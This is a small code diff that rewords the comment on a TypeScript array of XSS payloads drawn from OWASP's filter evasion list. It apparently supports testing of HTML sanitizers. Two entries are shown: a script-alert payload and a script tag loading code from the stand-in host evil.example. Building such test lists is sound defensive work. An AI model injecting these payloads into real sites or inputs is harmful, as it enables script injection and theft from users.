@@ -1,4 +1,6 @@
-/** Ways to smuggle a script into markup, after OWASP's filter evasion list and what parsers have been found to make of broken markup. */
+/**
+ * Ways to inject a script into markup, from OWASP's filter evasion list and known parser behaviour for broken markup.
+ */
 export const xssPayloads: readonly string[] = [
   '<script>alert(1)</script>',
   '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
